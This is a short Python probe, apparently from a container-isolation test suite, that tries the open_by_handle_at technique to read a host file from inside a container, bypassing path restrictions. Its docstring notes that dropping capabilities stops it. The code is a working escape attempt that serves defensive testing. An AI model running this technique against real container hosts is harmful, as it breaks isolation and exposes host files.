"""Open a file of the host by its handle, past every path: the attack on early containers.

kind: escape
stopped by: no capabilities
control: root
"""

import ctypes
import os

from attacker import TOLD, call, look, refused

handle = bytes.fromhex(TOLD["handle"][1])
packed = ctypes.create_string_buffer(
    len(handle).to_bytes(4, "little") + TOLD["handle"][0].to_bytes(4, "little") + handle
)


def opened(beside: str) -> bytes:
    descriptor = call("open_by_handle_at", os.open(beside, os.O_RDONLY), packed, os.O_RDONLY)
    return os.read(descriptor, 4096)


for beside in ("/study", "/usr", os.getcwd(), os.path.dirname(os.__file__)):
    if handle and os.path.isdir(beside):
        look(f"open by handle beside {beside}", lambda beside=beside: opened(beside))
if not handle:
    refused("open by handle", "the host's file system gives no handles")
